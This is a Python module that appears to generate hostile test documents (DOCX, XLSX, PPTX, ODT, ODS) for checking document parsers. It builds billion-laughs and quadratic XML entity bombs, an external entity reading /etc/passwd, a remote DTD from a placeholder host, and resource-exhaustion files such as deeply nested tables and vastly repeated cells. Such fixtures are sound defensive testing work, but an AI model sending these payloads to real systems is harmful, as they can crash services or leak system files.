"""Office documents: XML entities, tables without end, parts that unfold."""

# each file is made when it is asked for, not at import

from __future__ import annotations

from collections.abc import Callable

from hostile.zips import zipped

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_CELLS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_ODF = "urn:oasis:names:tc:opendocument:xmlns"

LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>"
)
QUADRATIC = f"<!DOCTYPE x [<!ENTITY a '{'x' * 200_000}'>]>"
OUTSIDE = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
_REMOTE = "<!DOCTYPE x [<!ENTITY % a SYSTEM 'http://piege.example/x.dtd'> %a;]>"


def package(main: str, kind: str, parts: dict[str, bytes]) -> bytes:
    """An OPC package with one main part."""
    types = (
        f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="xml" ContentType='
        f'"application/xml"/><Default Extension="rels" ContentType="application/vnd.'
        'openxmlformats-package.relationships+xml"/><Override PartName="/'
        f'{main}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>'
        "</Types>"
    )
    links = (
        f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{_OFFICE}/officeDocument" Target="{main}"/></Relationships>'
    )
    return zipped(
        ("[Content_Types].xml", types.encode()), ("_rels/.rels", links.encode()), *parts.items()
    )


def word(body: str, before: str = "") -> bytes:
    text = f'{before}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    return package(
        "word/document.xml", "wordprocessingml.document", {"word/document.xml": text.encode()}
    )


def _said(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def sheet(rows: str, strings: str = "", before: str = "") -> bytes:
    links = "".join(
        f'<Relationship Id="r{n}" Type="{_OFFICE}/{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(
            [("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")], 1
        )
    )
    parts = {
        "xl/workbook.xml": f'<workbook xmlns="{_CELLS}" xmlns:r="{_OFFICE}"><sheets><sheet '
        'name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}/relationships">{links}'
        "</Relationships>",
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_CELLS}">'
        f'<dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData></worksheet>',
        "xl/sharedStrings.xml": f'{before}<sst xmlns="{_CELLS}">{strings}</sst>',
    }
    return package(
        "xl/workbook.xml",
        "spreadsheetml.sheet",
        {name: text.encode() for name, text in parts.items()},
    )


def slide(before: str) -> bytes:
    text = f"{before}<presentation>&a;</presentation>"
    return package(
        "ppt/presentation.xml",
        "presentationml.presentation",
        {"ppt/presentation.xml": text.encode()},
    )


def open_document(body: str, before: str = "", kind: str = "text") -> bytes:
    spaces = " ".join(f'xmlns:{name}="{_ODF}:{name}:1.0"' for name in ("office", "text", "table"))
    text = (
        f"{before}<office:document-content {spaces}><office:body><office:{kind}>{body}"
        f"</office:{kind}></office:body></office:document-content>"
    )
    mime = {"text": "text", "spreadsheet": "spreadsheet"}[kind]
    return zipped(
        ("mimetype", f"application/vnd.oasis.opendocument.{mime}".encode()),
        ("content.xml", text.encode()),
        ("META-INF/manifest.xml", b"<manifest/>"),
    )


def nested_tables() -> bytes:
    return word("<w:tbl><w:tr><w:tc>" * 20_000 + _said("x") + "</w:tc></w:tr></w:tbl>" * 20_000)


def repeated_cells() -> bytes:
    """One cell that says it stands there seventeen thousand million times."""
    cell = '<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p>'
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-cell>'
    table = f'<table:table table:name="A">{row}</table:table-row></table:table>'
    return open_document(table, kind="spreadsheet")


def shared_string() -> bytes:
    """One long text shared by a hundred thousand cells."""
    cells = '<row><c t="s"><v>0</v></c></row>' * 100_000
    return sheet(cells, f"<si><t>{'x' * 1_000_000}</t></si>")


KINDS: dict[str, Callable[[], bytes]] = {
    "laughs.docx": lambda: word(_said("&a11;"), LAUGHS),
    "quadratic.docx": lambda: word(_said("&a;" * 50_000), QUADRATIC),
    "outside.docx": lambda: word(_said("&a;"), OUTSIDE),
    "remote.docx": lambda: word(_said("x"), _REMOTE),
    "nested-tables.docx": nested_tables,
    "inflated-part.docx": lambda: word(_said("mot " * 45_000_000)),
    "no-main-part.docx": lambda: zipped(("word/document.xml", b"")),
    "truncated.docx": lambda: word(_said("mot " * 10_000))[:-200],
    "laughs.xlsx": lambda: sheet(
        '<row><c t="s"><v>0</v></c></row>', "<si><t>&a11;</t></si>", LAUGHS
    ),
    "outside.xlsx": lambda: sheet(
        '<row><c t="s"><v>0</v></c></row>', "<si><t>&a;</t></si>", OUTSIDE
    ),
    "million-rows.xlsx": lambda: sheet('<row r="1"/>' * 1_000_000),
    "far-cells.xlsx": lambda: sheet(
        "".join(f'<row><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 30_000))
    ),
    "shared-string.xlsx": shared_string,
    "outside.pptx": lambda: slide(OUTSIDE),
    "laughs.pptx": lambda: slide(LAUGHS.replace("a11", "a")),
    "laughs.odt": lambda: open_document("<text:p>&a11;</text:p>", LAUGHS),
    "outside.odt": lambda: open_document("<text:p>&a;</text:p>", OUTSIDE),
    "nested-spans.odt": lambda: open_document(
        "<text:p>" + "<text:span>" * 50_000 + "x" + "</text:span>" * 50_000 + "</text:p>"
    ),
    "endless-spaces.odt": lambda: open_document('<text:p>x<text:s text:c="999999999"/></text:p>'),
    "repeated-cells.ods": repeated_cells,
}
